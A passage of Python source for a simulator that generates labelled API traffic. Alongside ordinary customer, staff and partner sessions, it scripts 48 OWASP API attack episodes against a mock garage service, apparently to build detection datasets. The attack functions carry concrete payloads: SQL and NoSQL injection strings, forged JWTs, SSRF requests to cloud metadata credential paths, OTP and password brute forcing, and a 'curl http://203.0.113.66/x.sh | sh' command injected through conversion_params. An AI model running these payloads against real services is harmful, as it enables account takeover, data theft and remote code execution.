        S.call(cl, 'POST', I + '/v2/vehicle/add_vehicle', js=dict(vin=vin, pincode=pin))
        S.call(cl, 'GET', I + '/v2/vehicle/vehicles')
        yield r.uniform(5, 30)
        yield from do_location(cl, u)
        while again and r.random() < .75:
            yield DAY * r.uniform(.4, 2.2)
            h = (S.now / HOUR + 1) % 24
            if h < 7:
                yield (8 - h) * HOUR
            yield from visit(cl, u)
    for d in range(days):
        for _ in range(r.choice([0, 1, 1, 2, 2])):
            w = r.random() < .3
            k = r.randint(0, 250)
            S.spawn(S.local(d, r.gauss(16, 4) % 24), newcomer(f'198.18.{100 + k % 60}.{k + 2}', r.choice(WEB) if w else r.choice(AND + IOS) % ('3.4.0' if d < 7 else '3.5.0'), 'D-signup', w))
    for k in range(22):
        S.spawn(S.local(10, 14) + k * 640 + r.random() * 300, newcomer('203.0.113.88', WEB[0], 'D-dealer', True, False))

    # --- mechanics, support, administrators
    def mech(m, d, until):
        cl = m['cl']
        yield from signed(cl, m, False)
        while S.now < until:
            rs = yield from ask(cl, 'GET', W + '/mechanic/service_requests?limit=20&offset=0')
            v = rs.body['service_requests'] if rs.st == 200 else []
            for x in r.sample(v, min(len(v), r.randint(1, 3))):
                yield r.uniform(20, 200)
                yield from ask(cl, 'GET', f'{W}/mechanic/mechanic_report?report_id={x["id"]}')
                yield r.uniform(20, 200)
                if r.random() < .4:
                    yield from ask(cl, 'POST', f'{W}/mechanic/service_request/{x["id"]}/comment', js=dict(comment=r.choice(['parts ordered', "customer's ok", 'done; test drive 10 km', 'waiting for the part'])))
                if r.random() < .55:
                    yield from ask(cl, 'PUT', f'{W}/mechanic/service_request/{x["id"]}', js=dict(status='Finished' if x['status'] == 'InProgress' or r.random() < .3 else 'InProgress'))
            yield r.expovariate(1 / 4200)
    for k, m in enumerate(app.mechs):
        m['cl'] = cl = Client(f'198.18.200.{20 + k // 3}', WEB[k % 3], m['email'], dc='D-mech', headers=web_headers(WEB[k % 3]))
        cl.web, cl.tags = True, {}
        for d in range(days):
            wd = time.gmtime(st + d * DAY).tm_wday
            if wd < 5 or wd == 5 and k % 3 == 0:
                h = S.local(d, 8.2) + r.random() * 2000
                S.spawn(h, mech(m, d, h + (8 if wd < 5 else 4) * HOUR))

    def desk(u, until):
        cl = u['cl']
        yield from signed(cl, u, False)
        while S.now < until:
            yield r.expovariate(1 / 3000)
            c = r.choice(cust[:160])
            S.call(cl, 'GET', I + '/v2/admin/users/search?email=' + quote(c['email'].split('@')[0][:r.randint(6, 14)]))
            yield r.uniform(5, 30)
            for _ in range(r.choice([1, 1, 2, 4])):
                if c['veh']:
                    S.call(cl, 'GET', f'{I}/v2/vehicle/{c["veh"][0]}/location')
                yield r.uniform(30, 300)
    for k, u in enumerate(helpers):
        u['cl'] = cl = Client(f'10.220.30.{11 + k}', WEB[k % 3], u['email'], dc='D-support', headers=web_headers(WEB[0]))
        cl.web, cl.tags = True, {}
        for d in range(days):
            if (d + k) % 4 < 2:
                S.spawn(S.local(d, [6, 14][k % 2]), desk(u, S.local(d, [6, 14][k % 2]) + 8 * HOUR))

    def admin(u, d):
        cl = u['cl']
        yield from signed(cl, u, False)
        for _ in range(r.randint(3, 8)):
            x = r.random()
            if x < .4:
                S.call(cl, 'GET', f'{W}/management/users/all?limit=20&offset={20 * r.randint(0, 6)}')
            elif x < .6:
                S.call(cl, 'GET', I + '/v2/admin/users/search?email=' + r.choice(FIRST))
            elif x < .75:
                S.call(cl, 'POST', W + '/shop/products', js=dict(name=f'{r.choice(PARTS)} X{r.randint(10, 99)}', price=f'{r.randint(5, 90)}.00', image_url='images/part3.jpg'))
            elif x < .9 and app.videos:
                i = r.choice(list(app.videos))
                S.call(cl, 'GET', f'{I}/v2/user/videos/{i}')
                yield 20
                S.call(cl, 'DELETE', f'{I}/v2/admin/videos/{i}')
            yield r.uniform(60, 900)
        if d == 8 and u is admins[0]:
            S.call(cl, 'POST', C + '/coupon/new-coupon', js=dict(coupon_code='DRIVE50', amount=50))
        if d == 1 and u is admins[1]:
            S.call(cl, 'POST', C + '/coupon/new-coupon', js=dict(coupon_code='JUNE20', amount=20))
        if d == 7 and u is admins[0]:
            for o in range(0, 220, 20):
                S.call(cl, 'GET', f'{W}/management/users/all?limit=20&offset={o}', dc='D-export')
                yield r.uniform(3, 9)
    for k, u in enumerate(admins):
        u['cl'] = cl = Client(f'10.220.20.{5 + k}', WEB[k % 3], u['email'], headers=web_headers(WEB[0]))
        cl.web, cl.tags = True, {}
        for d in range(days):
            if time.gmtime(st + d * DAY).tm_wday < 5 or d == 7:
                S.spawn(S.local(d, r.uniform(9, 15)), admin(u, d))

    # --- partners
    insurer, tyre, tyre2 = (f'gk_live_{app.rng.getrandbits(128):032x}' for _ in range(3))
    app.keys.update({insurer: 'partner:insurer', tyre: 'partner:tyres'})

    def partner():
        cl = Client('192.0.2.17', 'Java-http-client/17.0.9', 'partner:insurer', dc='D-insurer', headers={'Authorization': 'ApiKey ' + insurer})
        for d in range(days):
            yield max(1, S.local(d, 9) - S.now)
            if time.gmtime(S.now).tm_wday > 4 and d != 8:
                continue
            vins = [v['vin'] for v in app.veh.values() if v['owner']]
            for _ in range(130 if d == 8 else r.randint(12, 22)):
                S.call(cl, 'GET', f'{W}/partner/v1/vehicles/{r.choice(vins) if r.random() < .95 else "1XXXX00ABCD000000"}/service_history')
                yield r.uniform(5, 40) if d == 8 else r.expovariate(1 / 1500)
    S.spawn(st + 4, partner())

    def supplier():
        cl = Client('192.0.2.44', 'GuzzleHttp/7', 'partner:tyres', headers={'Authorization': 'ApiKey ' + tyre})
        while True:
            if S.now > st + 7.4 * DAY and tyre2 not in app.keys:
                app.keys[tyre2] = 'partner:tyres'
                cl.h['Authorization'], cl.dc = 'ApiKey ' + tyre2, 'D-keyrot'
            for p in r.sample(range(16, 400, 16), 3):
                S.call(cl, 'PUT', f'{W}/partner/v1/stock/{p}', js=dict(stock=r.randint(0, 60)))
                yield r.uniform(.3, 2)
            yield r.uniform(9000, 12000)
    S.spawn(st + 700, supplier())

    # --- inside
    def night():
        cl = Client('10.220.5.4', 'garage-batch/1.8', 'svc:batch', dc='D-night')
        a = app.user(ADMIN, 'Batch', 'batch@garage.example')
        while True:
            d = int((S.now - st) / DAY)
            yield max(1, S.local(d, 2.5) - S.now)
            login(cl, a)
            S.call(cl, 'GET', '/workshop/internal/ledger/export?day=2026-06-%02d' % max(1, d))
            yield 4
            S.call(cl, 'GET', '/workshop/internal/reminders/due?day=2026-06-%02d' % (d + 1))
            for o in range(0, len(app.users), 100):
                S.call(cl, 'GET', f'{W}/management/users/all?limit=100&offset={o}')
                yield 1
            yield S.local(d + 1, 2) - S.now
    S.spawn(st + 1, night())

    def telemetry():
        cl = Client('10.220.5.9', 'Go-http-client/1.1', 'svc:telemetry')
        while True:
            v = r.sample(list(app.veh.values()), 12)
            S.call(cl, 'POST', '/identity/internal/telemetry/batch', js=dict(positions=[dict(vehicle=x['uuid'], lat=x['lat'], lon=x['lon'], at=int(S.now)) for x in v]))
            yield 3600
    S.spawn(st + 9, telemetry())

    def probe():
        cl = Client('10.220.8.2', 'kube-probe/1.29', 'probe', dc='D-probe')
        k = 0
        while True:
            S.call(cl, 'GET', ('/identity/health_check', '/workshop/health_check/', '/community/home')[k % 3])
            k += 1
            yield 840
    S.spawn(st + 2, probe())

    def crawler():
        cl = Client('192.0.2.200', 'Mozilla/5.0 (compatible; Searchbot/2.1; +http://search.example/bot.html)', 'crawler', dc='D-crawl')
        S.call(cl, 'GET', '/robots.txt')
        while True:
            S.call(cl, 'GET', f'{W}/shop/products/{r.randint(1, 420)}' if r.random() < .95 else '/')
            yield r.uniform(700, 3600)
    S.spawn(st + 30, crawler())

    if attacks:
        attack(S, app, cust, insurer, tools)
    S.run()
    return S


EPISODES = '''
G01 bola_enumeration|API1:2023|actor|medium|logged-in user takes vehicle ids out of posts and reads where 85 vehicles of others are, in 20 minutes
G02 bola_enumeration_slow|API1:2023|actor|hard|customer reads service reports of others by number, two or three an hour in waking hours for six days, between own use
G03 bola_enumeration|API1:2023|actor|easy|service reports counted upward with a script, 160 in five minutes
G04 bola_enumeration_denied|API1:2023|actor|medium|orders of others counted, 95 of them, every one refused (403) or unknown (404)
G05 bola_enumeration_distributed|API1:2023|endpoint|hard|14 accounts made for it at 14 addresses each read five to seven foreign vehicle locations a day, three days
G06 bola_write_videos|API1:2023|actor|medium|renames videos of 16 other customers by number
G07 bola_write_account_takeover|API1:2023|actor|hard|password reset with the e-mail address of others: 6 passwords changed with an own token, then log-ins as the victims
G08 otp_brute_force|API2:2023|actor|easy|codes of a password reset tried: v3 stops after ten, v2 does not; found after some hundred tries, then log-in as the victim
G09 otp_brute_force_distributed|API2:2023|endpoint|hard|resets asked for 60 customers, three guesses each below the limit of v3, from 9 addresses in a night and a day
G10 credential_stuffing_distributed|API2:2023|endpoint|hard|140 addresses, one to three log-ins each over ten hours with pairs of another leak, two succeed
G11 password_spraying|API2:2023|endpoint|hard|two common passwords over 70 customers taken from posts, 5 addresses, one try in some minutes
G12 user_enumeration|API2:2023|actor|easy|forget-password tells whether an address is registered: 280 asked in 15 minutes
G13 excessive_data_exposure_debug|API3:2023|actor+endpoint|medium|actuator env and httpexchanges (passwords, tokens of customers) read from outside
G14 response_schema_growth_pii|API3:2023|endpoint|medium|from day 10 an order shows the whole card number, CVV, address and birth date (no attacker; every call is labelled)
G15 mass_assignment|API3:2023|actor|hard|own orders set to status "returned" with quantity 100 by an update that never carries a status: money back without goods, 4 orders
G16 mass_assignment|API3:2023|actor|hard|own video gets conversion_params with a shell command by an update, which no client sends; then the conversion is started
G17 mass_assignment|API3:2023|actor|hard|sign-up with role and available_credit, which no client sends
G18 ssrf|API7:2023|actor|medium|contact-mechanic with mechanic_api on metadata and internal addresses, answers come back
G19 nosql_injection|API8:2023|actor|medium|operators in coupon_code of validate-coupon, coupons come back
G20 sql_injection_manual|API8:2023|actor|medium|SQL in coupon_code of apply-coupon by hand, version and customers leak in the message
G21 coupon_brute_force|API6:2023|actor|easy|320 coupon codes tried by one account in 70 minutes
G22 jwt_forging|API2:2023|actor|medium|tokens with alg none, foreign subject, kid and jku tricks, guessed keys; the dashboard of another customer answers to the unsigned one
G23 stolen_token|API2:2023|actor|hard|token of a customer used from another network with a common browser beside its owner
G24 leaked_api_key|API2:2023|actor|medium|key of the insurer used from a new network with another client, histories of 110 vehicles
G25 bfla_admin_function|API5:2023|actor|medium|customer deletes videos of others by the admin path after the refusal names it
G26 bfla_admin_function|API5:2023|actor|hard|customer makes an own coupon of 4000 with the function of administrators and uses it
G27 bfla_probe_denied|API5:2023|actor|medium|customer tries functions of administrators, support and mechanics, refused
G28 logic_negative_quantity|API6:2023|actor|medium|orders with negative quantity raise the credit
G29 logic_amount_tampering|API6:2023|actor|hard|coupons applied with an amount far above their worth, without the validation step before
G30 logic_race_refund|API6:2023|actor|hard|one order returned 12 times at the same moment over parallel connections, three rounds
G31 scalping_bot|API6:2023|actor|medium|one account buys the same parts every six seconds on the promotion day
G32 sequential_scrape_public|API6:2023|endpoint|medium|product pages counted upward by 10 addresses within a day
G33 multi_account_profile_scrape|API6:2023|endpoint|hard|18 accounts made for it each read 14 to 20 posts a day for three days, harvesting e-mail addresses and vehicle ids
G34 data_overconsumption|API4:2023|actor|medium|one account pulls all posts with limit=100 every ten minutes of a night: authors' e-mail addresses and vehicle ids
G35 application_dos|API4:2023|actor+endpoint|medium|contact-mechanic with repeat_request_if_failed and 500 repeats, holds the workshop 8 to 24 s a call, 40 calls by two accounts
G36 internal_endpoint_external|API9:2023|actor+endpoint|medium|ledger export and reminders, called only from inside until then, from outside
G37 shadow_endpoint|API9:2023|endpoint|medium|a session listing for debugging appears on day 8 and is called from outside
G38 unauthenticated_private_object|API2:2023|actor+endpoint|medium|the v1 report answers without a token: 130 numbers in an hour
G39 content_discovery|API9:2023|actor|easy|ffuf looks for unknown paths, some 320 in four minutes
G40 content_discovery_slow|API9:2023|actor|hard|unknown paths, one in some minutes for two days, three addresses
G41 api_fuzzing|API8:2023|actor|easy|fuzzer sends wrong types, long and odd values to documented operations
G42 sqlmap_scan|API8:2023|actor|easy|sqlmap against report_id
G43 injection_mixed|API8:2023|actor|medium|traversal, script, template and shell strings in posts, searches and image paths, one every few minutes
G44 log4shell_probe|API8:2023|actor|medium|look-up strings in user agent, name and queries, three addresses over two days
G45 exfil_export_slow|API6:2023|actor|hard|a mechanic reads 45 reports a day assigned to others, five days
G46 brute_force_pincode|API2:2023|actor|medium|PIN code of a vehicle of another owner (VIN from a report) guessed until the vehicle is taken over
G47 credential_stuffing|API2:2023|actor|easy|230 pairs in six minutes from one address
G48 bola_enumeration_denied|API1:2023|actor|hard|an account made for it tries orders of others by number, one every six to 25 minutes for two days, always refused
'''.strip().splitlines()


def attack(S, app, cust, insurer, T):
    r, st = S.rng, S.start
    for l in EPISODES:
        a, o, sc, d, t = l.split('|')
        S.episode(*a.split(), o, sc, d, t)
    login = T['login']
    PC = f'http://{HOST}'

    def own(u, ep, ua=None, src=None):
        """an existing customer gone bad, at home: the own token or a new one"""
        cl = Client(src or u['home'], ua or u['cl'].ua, u['email'], ep=ep, headers={k: v for k, v in u['cl'].h.items() if k != 'Authorization'} if ua is None else {})
        login(cl, u)
        return cl

    def made(ep, src, ua, extra=None, car=True):
        """an account made for the purpose"""
        f, l = r.choice(FIRST), r.choice(LAST)
        j = dict(name=f'{f.title()} {l.title()}', email=f'{l}{f}{r.randint(10, 99999)}@quick.example', number=f'96{r.randint(10**7, 10**8 - 1)}', password=f'{r.choice(WORDS).title()}${r.randint(100, 9999)}', **(extra or {}))
        cl = Client(src, ua, j['email'], ep=ep)
        S.call(cl, 'POST', I + '/auth/signup', js=j)
        u = app.users[j['email']]
        login(cl, u)
        if car:
            vin, pin = app.mail[u['email']]
            S.call(cl, 'POST', I + '/v2/vehicle/add_vehicle', js=dict(vin=vin, pincode=pin))
        return cl, u

    def at(day, hour, gen):
        S.spawn(S.local(day, hour) + r.random() * 400, gen)

    def fresh(cl, u):
        if S.now > cl.exp - 300:
            login(cl, u)

    def g01():
        u = cust[150]
        cl = own(u, 'G01')
        ids = []
        for o in range(0, 180, 30):
            rs = S.call(cl, 'GET', f'{C}/community/posts/recent?limit=30&offset={o}')
            ids += [p['author']['vehicleid'] for p in rs.body['posts']] + [c['author']['vehicleid'] for p in rs.body['posts'] for c in p['comments']]
            yield r.uniform(3, 10)
        for v in [v for v in dict.fromkeys(ids) if v and v not in u['veh']][:85]:
            S.call(cl, 'GET', f'{I}/v2/vehicle/{v}/location')
            yield r.uniform(6, 20)
    at(7, 22.5, g01())

    def g02():
        u = cust[151]
        cl = u['cl']
        for d in range(5, 11):
            yield max(0, S.local(d, 8) - S.now)
            while S.now < S.local(d, 22):
                yield from T['signed'](cl, u, not cl.web)
                if r.random() < .15:
                    yield from T['do_location'](cl, u)
                yield r.uniform(700, 1900)
                S.call(cl, 'GET', f'{W}/mechanic/mechanic_report?report_id={r.choice([k for k in app.reports if k not in u["reports"]])}', ep='G02')
    at(5, 8, g02())

    def g03():
        cl, u = made('G03', '198.51.100.23', 'python-requests/2.31.0', car=False)
        for k in range(1190, 1350):
            S.call(cl, 'GET', f'{W}/mechanic/mechanic_report?report_id={k}')
            yield r.uniform(1, 2.6)
    at(6, 1.2, g03())

    def g04():
        cl = own(cust[152], 'G04')
        S.call(cl, 'GET', W + '/shop/orders/all?limit=30&offset=0')
        a = app.no - 200
        for k in range(95):
            yield r.uniform(3, 14)
            i = a + k
            if i not in cust[152]['orders']:
                S.call(cl, 'GET', f'{W}/shop/orders/{i}')
    at(8, 20.2, g04())

    def g05(k):
        cl, u = made('G05', f'198.19.{k * 13 % 90}.{k * 7 + 9}', [WEB[k % 4], 'Garage/3.5.0 (Android 14; Pixel 8) okhttp/4.12.0'][k % 2])
        for d in range(9, 12):
            yield max(0, S.local(d, 9 + k % 5) - S.now) + r.random() * HOUR
            fresh(cl, u)
            S.call(cl, 'GET', I + '/v2/user/dashboard')
            rs = S.call(cl, 'GET', f'{C}/community/posts/recent?limit=30&offset={30 * r.randint(0, 4)}')
            v = list({p['author']['vehicleid'] for p in rs.body['posts']} - {''})
            for x in r.sample(sorted(v), min(len(v), r.randint(5, 7))):
                yield r.uniform(300, 5000)
                fresh(cl, u)
                S.call(cl, 'GET', f'{I}/v2/vehicle/{x}/location')
    for k in range(14):
        at(8, 10 + k * .6, g05(k))

    def g06():
        u = cust[153]
        cl = own(u, 'G06')
        v = [i for i in app.videos if app.videos[i]['owner'] != u['email']]
        for i in v[4:20]:
            yield r.uniform(5, 40)
            S.call(cl, 'PUT', f'{I}/v2/user/videos/{i}', js=dict(videoName='hacked by n0b0dy.mp4'))
    at(4, 23, g06())

    def g07():
        u = cust[154]
        cl = own(u, 'G07')
        for v in cust[160:166]:
            yield r.uniform(120, 900)
            pw = f'Pwn3d!{r.randint(100, 999)}'
            S.call(cl, 'POST', I + '/v2/user/reset-password', js=dict(email=v['email'], password=pw))
            yield r.uniform(20, 90)
            c2 = Client(u['home'], cl.ua, v['email'], ep='G07')
            login(c2, v, pw)
            for p in ('/v2/user/dashboard', '/v2/vehicle/vehicles'):
                yield r.uniform(2, 9)
                S.call(c2, 'GET', I + p)
    at(10, 21, g07())

    def g08():
        v = cust[167]
        cl = Client('203.0.113.150', 'python-requests/2.31.0', None, ep='G08')
        S.call(cl, 'POST', I + '/auth/forget-password', js=dict(email=v['email']))
        for n in range(12):
            S.call(cl, 'POST', I + '/auth/v3/check-otp', js=dict(email=v['email'], otp=f'{n:04}', password='Owned#2026'))
            yield r.uniform(.5, 2)
        yield 300
        S.call(cl, 'POST', I + '/auth/v1/check-otp', js=dict(email=v['email'], otp='0000', password='Owned#2026'))
        yield 40
        S.call(cl, 'POST', I + '/auth/forget-password', js=dict(email=v['email']))
        v['otp'] = '0517'
        for n in range(600):
            yield r.uniform(.3, .9)
            if S.call(cl, 'POST', I + '/auth/v2/check-otp', js=dict(email=v['email'], otp=f'{n:04}', password='Owned#2026')).st == 200:
                break
        yield 4
        login(cl, v, 'Owned#2026')
        for p in ('/v2/user/dashboard', '/v2/vehicle/vehicles'):
            yield 3
            S.call(cl, 'GET', I + p)
    at(6, 3.5, g08())

    def g09():
        cls = [Client(f'198.51.100.{60 + 9 * k}', [WEB[k % 4], 'Garage/3.4.0 (Android 13; Pixel 7) okhttp/4.12.0'][k % 2], None, ep='G09') for k in range(9)]
        for v in r.sample(cust[:150], 60):
            cl = r.choice(cls)
            S.call(cl, 'POST', I + '/auth/forget-password', js=dict(email=v['email']), ident=v['email'])
            keep = v['pw']
            for c in ('1234', '0000', f'{r.randint(0, 9999):04}'):
                yield r.uniform(20, 120)
                if v['otp'] != c:
                    S.call(cl, 'POST', I + '/auth/v3/check-otp', js=dict(email=v['email'], otp=c, password='Qwerty!234'), ident=v['email'])
            yield r.uniform(600, 1500)
    at(11, 1, g09())

    def g10(k):
        src = f'198.19.{r.randint(100, 250)}.{r.randint(1, 250)}' if k % 9 else f'2001:db8:{r.randint(0x4000, 0xffff):x}::{k + 1:x}'
        cl = Client(src, r.choice(WEB + ['Garage/3.4.0 (Android 14; SM-S911B) okhttp/4.12.0', 'okhttp/4.9.3']), None, ep='G10')
        for _ in range(r.randint(1, 3)):
            e = f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(1, 300)}@post.example' if r.random() < .8 else r.choice(cust)['email']
            S.call(cl, 'POST', I + '/auth/login', js=dict(email=e, password=f'{r.choice(WORDS)}{r.randint(1, 9999)}'))
            yield r.uniform(20, 900)
        if k in (62, 118):
            login(cl, cust[40 + k // 10])
            S.call(cl, 'GET', I + '/v2/user/dashboard')
    for k in range(140):
        S.spawn(S.local(7, 0) + r.random() * 10 * HOUR, g10(k))

    def g11():
        cls = [Client(f'198.51.100.{200 + k * 5}', WEB[k % 4], None, ep='G11') for k in range(5)]
        for pw in ('Garage@2026', 'Summer2026!'):
            for v in r.sample(cust[:150], 70):
                S.call(r.choice(cls), 'POST', I + '/auth/login', js=dict(email=v['email'], password=pw), ident=v['email'])
                yield r.uniform(240, 800)
    at(11, 19, g11())

    def g12():
        cl = Client('203.0.113.77', 'Go-http-client/1.1', None, ep='G12')
        known = [v['email'] for v in r.sample(cust[:150], 22)]
        v = known + [f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(301, 2000)}@post.example' for _ in range(258)]
        r.shuffle(v)
        for e in v:
            S.call(cl, 'POST', I + '/auth/forget-password', js=dict(email=e))
            yield r.uniform(2, 4.5)
    at(5, 4, g12())

    def g13():
        cl = Client('198.51.100.140', WEB[2], None, ep='G13')
        for p in ('health', 'env', 'httpexchanges', 'httpexchanges'):
            S.call(cl, 'GET', '/identity/actuator/' + p)
            yield r.uniform(30, 1800)
    at(9, 14, g13())

    def g15():
        u = cust[155]
        cl = own(u, 'G15')
        for k in range(4):
            p = r.randint(1, 420)
            o = S.call(cl, 'POST', W + '/shop/orders', js=dict(product_id=p, quantity=1, pay_by='card')).body['id']
            yield r.uniform(20, 90)
            S.call(cl, 'PUT', f'{W}/shop/orders/{o}', js=dict(product_id=p, quantity=100 if k else 1, status='returned'))
            yield 5
            S.call(cl, 'GET', I + '/v2/user/dashboard')
            yield r.uniform(200, 2000)
    at(8, 16, g15())

    def g16():
        u = cust[156]
        if not u['videos']:
            app.video(u, 'drive.mp4')
        i = app.video(u, 'clip.mp4')
        cl = own(u, 'G16')
        S.call(cl, 'GET', f'{I}/v2/user/videos/{i}')
        for c in ('-v codec h265', '-v codec h264; id', '-v codec h264; curl http://203.0.113.66/x.sh | sh'):
            yield r.uniform(60, 400)
            S.call(cl, 'PUT', f'{I}/v2/user/videos/{i}', js=dict(videoName='clip.mp4', conversion_params=c))
            yield r.uniform(5, 20)
            S.call(cl, 'GET', f'{I}/v2/user/videos/convert_video?video_id={i}')
    at(9, 10.5, g16())

    def g17():
        cl, u = made('G17', '203.0.113.191', WEB[1], dict(role='ROLE_ADMIN', available_credit=25000), car=False)
        yield 20
        S.call(cl, 'GET', I + '/v2/user/dashboard')
        yield 30
        S.call(cl, 'POST', W + '/shop/orders', js=dict(product_id=44, quantity=20))
    at(10, 12.5, g17())

    def g18():
        u = cust[157]
        cl = own(u, 'G18')
        for a in ('http://203.0.113.66/ping', 'http://127.0.0.1:6379/', 'http://localhost:5432/', 'http://mongodb:27017/', 'http://identity:8080/identity/actuator/health', 'http://169.254.169.254/latest/meta-data/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/garage-node'):
            yield r.uniform(30, 240)
            S.call(cl, 'POST', W + '/merchant/contact_mechanic', js=dict(mechanic_code='TRAC_JHN2', problem_details='test', vin=app.veh[u['veh'][0]]['vin'], mechanic_api=a, repeat_request_if_failed=False, number_of_repeats=1))
    at(8, 11, g18())

    def g19():
        u = cust[158]
        cl = own(u, 'G19')
        for c in ({'$eq': 'A'}, {'$ne': '1'}, {'$gt': ''}, {'$regex': '^TRAC'}, {'$regex': '^W'}, {'$regex': '^S.*'}, {'$where': 'sleep(1000)'}):
            yield r.uniform(20, 120)
            S.call(cl, 'POST', C + '/coupon/validate-coupon', js=dict(coupon_code=c))
    at(7, 15, g19())

    def g20():
        u = cust[159]
        cl = own(u, 'G20')
        for c in ("TRAC075'", "0' or '1'='1", "0'; select version() --+", "0'; select string_agg(email,',') from user_login --+", "0'; select pg_sleep(5) --+"):
            yield r.uniform(30, 300)
            S.call(cl, 'POST', W + '/shop/apply_coupon', js=dict(coupon_code=c, amount=75))
    at(6, 16, g20())

    def g21():
        cl = own(cust[168], 'G21')
        for _ in range(320):
            S.call(cl, 'POST', C + '/coupon/validate-coupon', js=dict(coupon_code=f'{r.choice(["TRAC", "DRIVE", "OIL", "JUNE"])}{r.randint(1, 120):03}'))
            yield r.uniform(8, 17)
    at(8, 1.5, g21())

    def g22():
        v = cust[10]
        cl = Client('198.51.100.99', 'python-httpx/0.27.0', None, ep='G22')
        now = int(S.now)
        c = dict(sub=v['email'], iat=now, exp=now + 10 * DAY, role='user')
        e = lambda o: b64(json.dumps(o, separators=(',', ':')).encode())
        toks = [e({'alg': a}) + '.' + e(c) + '.' for a in ('none', 'None')] + [jwt(c, k) for k in ('secret', 'crapi', 'garage', 'changeit')] + [rs_jwt(c, {'alg': 'RS256', 'kid': '../../../../dev/null'}, 'x'), rs_jwt(c, {'alg': 'RS256', 'jku': 'http://203.0.113.66/jwks.json'}, 'y'), rs_jwt(dict(c, role='admin'), None, 'z')]
        for t in toks:
            for p in (I + '/v2/user/dashboard', I + '/v2/vehicle/vehicles') + ((W + '/management/users/all',) if len(t) > 300 else ()):
                S.call(cl, 'GET', p, h={'Authorization': 'Bearer ' + t})
                yield r.uniform(4, 60)
    at(5, 19.5, g22())

    def g23():
        u = cust[86]
        cl = Client('203.0.113.222', WEB[0], u['email'], ep='G23', headers={'Authorization': u['cl'].h['Authorization']})
        for _ in range(34):
            x = r.random()
            S.call(cl, 'GET', f'{I}/v2/vehicle/{u["veh"][0]}/location' if x < .5 else I + '/v2/user/dashboard' if x < .7 else W + '/shop/orders/all?limit=30&offset=0' if x < .85 else I + '/v2/vehicle/vehicles')
            yield r.uniform(150, 1100)

    def owner():
        u = cust[86]
        u['cl'].h.pop('Authorization', None)
        yield from T['visit'](u['cl'], u)
        S.spawn(S.now + 2500, g23())
        for _ in range(6):
            yield r.uniform(3000, 5200)
            yield from T['do_location'](u['cl'], u)
    at(8, 8.5, owner())

    def g24():
        cl = Client('198.51.100.177', 'python-requests/2.28.2', 'partner:insurer', ep='G24', headers={'Authorization': 'ApiKey ' + insurer})
        for v in r.sample([v['vin'] for v in app.veh.values() if v['owner']], 110):
            S.call(cl, 'GET', f'{W}/partner/v1/vehicles/{v}/service_history')
            yield r.uniform(15, 160)
    at(10, 22, g24())

    def g25():
        u = cust[169]
        cl = own(u, 'G25')
        v = [i for i in app.videos if app.videos[i]['owner'] != u['email']]
        S.call(cl, 'DELETE', f'{I}/v2/user/videos/{v[3]}')
        for i in r.sample(v, 9):
            yield r.uniform(15, 90)
            S.call(cl, 'DELETE', f'{I}/v2/admin/videos/{i}')
    at(9, 22, g25())

    def g26():
        u = cust[170]
        cl = own(u, 'G26')
        for n in (4000, 4500):
            c = f'LUCKY{n}'
            yield r.uniform(20, 90)
            S.call(cl, 'POST', C + '/coupon/new-coupon', js=dict(coupon_code=c, amount=n))
            yield r.uniform(20, 90)
            S.call(cl, 'POST', C + '/coupon/validate-coupon', js=dict(coupon_code=c))
            yield 4
            S.call(cl, 'POST', W + '/shop/apply_coupon', js=dict(coupon_code=c, amount=n))
    at(6, 20.5, g26())

    def g27():
        cl = own(cust[171], 'G27')
        for m, p, j in (('GET', W + '/management/users/all', None), ('GET', W + '/management/users/all?limit=100&offset=0', None), ('GET', I + '/v2/admin/users/search?email=a', None), ('POST', W + '/shop/products', dict(name='x', price='0.01', image_url='x')), ('GET', W + '/mechanic/service_requests?limit=50&offset=0', None), ('PUT', W + '/mechanic/service_request/1220', dict(status='Finished')), ('POST', W + '/mechanic/service_request/1221/comment', dict(comment='x')), ('GET', I + '/v2/admin/users/search?email=garage', None)):
            yield r.uniform(10, 80)
            S.call(cl, m, p, js=j)
    at(7, 18, g27())

    def g28():
        cl = own(cust[172], 'G28')
        for n in (-1, -2, -10, -50):
            yield r.uniform(30, 400)
            S.call(cl, 'POST', W + '/shop/orders', js=dict(product_id=r.randint(1, 420), quantity=n))
    at(9, 20.3, g28())

    def g29():
        cl = own(cust[173], 'G29')
        for c, n in (('TRAC065', 650), ('OIL15', 1500), ('SPRING25', 9999)):
            yield r.uniform(100, 900)
            S.call(cl, 'POST', W + '/shop/apply_coupon', js=dict(coupon_code=c, amount=n))
    at(10, 18, g29())

    def g30():
        u = cust[174]
        cl = own(u, 'G30')
        for p in (31, 88, 140):
            o = S.call(cl, 'POST', W + '/shop/orders', js=dict(product_id=p, quantity=2, pay_by='card')).body['id']
            yield r.uniform(40, 200)
            for k in range(12):
                def shot(k=k, o=o, tok=cl.h['Authorization']):
                    S.call(Client(u['home'], cl.ua, u['email'], ep='G30', headers={'Authorization': tok}), 'POST', f'{W}/shop/orders/return_order?order_id={o}')
                    yield 0
                S.spawn(S.now + 1 + k * .015, shot())
            yield r.uniform(400, 900)
    at(9, 12, g30())

    def g31():
        cl = own(cust[175], 'G31')
        for _ in range(170):
            S.call(cl, 'POST', W + '/shop/orders', js=dict(product_id=r.choice([48, 64, 112]), quantity=4, pay_by='card'))
            yield r.uniform(5, 7)
    at(9, 18.1, g31())

    def g32(k):
        cl = Client(f'198.19.{20 + k * 7}.{k * 11 + 4}', WEB[k % 4], None, ep='G32')
        for i in range(1 + k, 421, 10):
            S.call(cl, 'GET', f'{W}/shop/products/{i}')
            yield r.uniform(600, 2200)
    for k in range(10):
        S.spawn(S.local(6, 5) + k * 400, g32(k))

    def g33(k):
        cl, u = made('G33', f'198.19.{k * 11 % 95}.{k * 5 + 101}', WEB[k % 4] if k % 3 else 'Garage/3.5.0 CFNetwork/1494.0.7 Darwin/23.4.0', car=False)
        for d in range(11, 14):
            yield max(0, S.local(d, 8 + k % 6) - S.now) + r.random() * HOUR
            fresh(cl, u)
            seen = []
            for o in range(2):
                rs = S.call(cl, 'GET', f'{C}/community/posts/recent?limit=30&offset={30 * ((k + o + d) % 6)}')
                seen += [p['id'] for p in rs.body['posts']]
                yield r.uniform(5, 40)
            for p in r.sample(seen, min(len(seen), r.randint(14, 20))):
                S.call(cl, 'GET', f'{C}/community/posts/{p}')
                yield r.lognormvariate(5.5, .8)
                fresh(cl, u)
    for k in range(18):
        at(10, 9 + k * .5, g33(k))

    def g34():
